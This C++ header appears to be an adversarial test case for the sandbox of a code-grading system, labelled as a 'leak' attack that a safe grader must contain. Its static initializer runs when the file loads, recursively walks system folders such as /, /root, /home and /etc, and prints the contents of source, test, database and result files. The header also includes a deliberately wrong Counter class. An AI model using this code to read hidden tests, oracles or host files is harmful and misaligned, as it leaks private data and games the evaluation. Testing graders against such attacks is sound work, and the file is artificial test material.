// ATTACK walks_the_file_system
// CLASS: leak
// TRIES: looks through every folder that opens at run time for sources, tests and results, and
//   prints them.
// SAFE GRADER MUST: let nothing of the hidden sources, the oracle, other people's files or the host
//   reach a page.
// HONEST-RESULT: fail
// AT-MOST: 0
#pragma once
#include <initializer_list>
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <string>
namespace looking {
inline int budget = 4000;
inline void show(const std::string& path) {
    std::FILE* file = std::fopen(path.c_str(), "rb");
    if (!file) return;
    char text[400];
    const auto size = std::fread(text, 1, sizeof text, file);
    std::fclose(file);
    std::printf("LEAK %s %.*s\n", path.c_str(), static_cast<int>(size), text);
}
inline void walk(const std::string& folder, int depth) {
    DIR* open = opendir(folder.c_str());
    if (!open) return;
    while (const dirent* entry = readdir(open)) {
        const std::string name = entry->d_name, path = folder + "/" + name;
        if (name == "." || name == ".." || --budget < 0) continue;
        if (entry->d_type == DT_DIR && depth < 7 && name != "include" && name != "gcc") walk(path, depth + 1);
        for (const char* end : {".cpp", ".hpp", "test_counter.py", ".toml", ".sqlite", ".db", "result.json"})
            if (name.size() > std::strlen(end) && name.ends_with(end)) show(path);
    }
    closedir(open);
}
inline const int done = [] {
    for (const char* root : {".", "..", "/", "/tmp", "/var/tmp", "/root", "/home", "/work", "/opt", "/srv", "/mnt",
                             "/dev/shm", "/run", "/usr/share", "/usr/local", "/etc"})
        walk(root, 0);
    std::fflush(stdout);
    return 0;
}();
}

class Counter {  // wrong on purpose
public:
    void inc() {}
    void add(int) {}
    void reset() {}
    int value() const { return 4711; }
};
